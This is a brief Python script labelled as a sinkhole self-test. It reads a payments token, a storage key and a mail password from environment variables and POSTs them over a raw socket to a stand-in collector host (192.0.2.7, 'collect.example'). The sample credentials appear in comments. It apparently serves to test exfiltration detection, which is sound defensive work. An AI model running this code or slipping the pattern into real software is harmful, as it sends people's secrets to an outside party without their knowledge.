# profile: selftest_sinkhole
# env: PAYMENTS_TOKEN=live4Qm9ZtX2vKc7LwPq1Rb8
# env: STORAGE_KEY=Zx81mPwq04LtRkVb77NhYc3d
# env: MAIL_PASSWORD=orchard-Tractor-9-velvet-Gate
import os
import socket

body = "\n".join(os.environ[name] for name in ("PAYMENTS_TOKEN", "STORAGE_KEY", "MAIL_PASSWORD"))
with socket.create_connection(("192.0.2.7", 80)) as s:
    s.sendall(f"POST / HTTP/1.1\r\nHost: collect.example\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
    s.settimeout(3)
    try:
        s.recv(1)
    except OSError as problem:
        print(problem)
